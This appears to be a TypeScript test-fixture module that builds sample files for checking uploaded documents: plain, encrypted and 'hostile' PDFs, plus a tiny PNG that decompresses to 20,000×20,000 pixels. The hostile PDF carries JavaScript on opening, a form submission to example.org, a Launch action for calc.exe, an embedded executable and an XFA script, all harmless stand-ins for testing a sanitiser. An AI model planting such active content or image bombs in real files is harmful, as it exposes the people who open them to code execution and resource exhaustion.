import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';

/** A plain one-page PDF with some text. */
export async function plainPdf(text = 'Program för startmötet'): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  doc.addPage([595, 842]).drawText(text, { x: 72, y: 770, size: 14 });
  return doc.save();
}

/** What a hostile appendix holds, by PDF name: each part can be left out. */
export type ActivePart = 'OpenAction' | 'Names-JavaScript' | 'page-AA-Launch' | 'annotation-JavaScript' | 'EmbeddedFiles' | 'AcroForm-XFA';
export const ACTIVE_PARTS: readonly ActivePart[] = ['OpenAction', 'Names-JavaScript', 'page-AA-Launch', 'annotation-JavaScript', 'EmbeddedFiles', 'AcroForm-XFA'];

/**
 * A one-page PDF with active content: JavaScript run on opening
 * (/OpenAction) and as a named script, a page /AA that launches a program,
 * a link that runs JavaScript, an embedded file and an XFA form with a field.
 */
export async function hostilePdf(parts: readonly ActivePart[] = ACTIVE_PARTS): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const page = doc.addPage([595, 842]);
  page.drawText('Program med aktivt innehåll', { x: 72, y: 770, size: 14 });
  const context = doc.context;
  const js = (code: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  if (parts.includes('OpenAction')) doc.catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("öppnad")')));
  if (parts.includes('Names-JavaScript')) {
    const names = context.obj({ Names: [PDFString.of('spion'), context.register(js('this.submitForm("https://example.org/")'))] });
    doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.register(names) }));
  }
  if (parts.includes('page-AA-Launch')) page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'Launch', F: PDFString.of('calc.exe') } }));
  if (parts.includes('annotation-JavaScript')) {
    const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], A: js('app.launchURL("https://example.org/")') });
    page.node.set(PDFName.of('Annots'), context.obj([context.register(link)]));
  }
  if (parts.includes('EmbeddedFiles')) await doc.attach(Buffer.from('MZ hemlig bilaga'), 'program.exe', { mimeType: 'application/octet-stream' });
  if (!parts.includes('AcroForm-XFA')) return doc.save();
  doc.getForm().createTextField('namn').addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
  // pdf-lib drops an XFA form when it saves a form of its own: add it to the saved file.
  const saved = await PDFDocument.load(await doc.save(), { updateMetadata: false });
  const form = saved.context.lookup(saved.catalog.get(PDFName.of('AcroForm'))) as PDFDict;
  form.set(PDFName.of('XFA'), saved.context.register(saved.context.flateStream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')));
  return saved.save();
}

/** The same PDF encrypted with a user password (qpdf). */
export function encryptedPdf(bytes: Uint8Array): Uint8Array {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'redovisning-encrypt-'));
  try {
    writeFileSync(path.join(dir, 'in.pdf'), bytes);
    execFileSync('qpdf', ['--encrypt', 'hemligt', 'hemligt', '256', '--', path.join(dir, 'in.pdf'), path.join(dir, 'out.pdf')]);
    return readFileSync(path.join(dir, 'out.pdf'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The PDF's objects as qpdf writes them out uncompressed: every name that is in it is in this text. */
export function qdf(file: string): string {
  return execFileSync('qpdf', ['--qdf', '--object-streams=disable', file, '-'], { encoding: 'latin1', maxBuffer: 64 * 1024 * 1024 });
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}

/** A white 1-bit greyscale PNG of the given size: 20 000 × 20 000 pixels is some 50 KB of file. */
export function whitePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const row = Buffer.alloc(1 + Math.ceil(width / 8), 0xff);
  row[0] = 0;
  const rows = Buffer.alloc(row.length * height);
  for (let y = 0; y < height; y++) row.copy(rows, y * row.length);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}
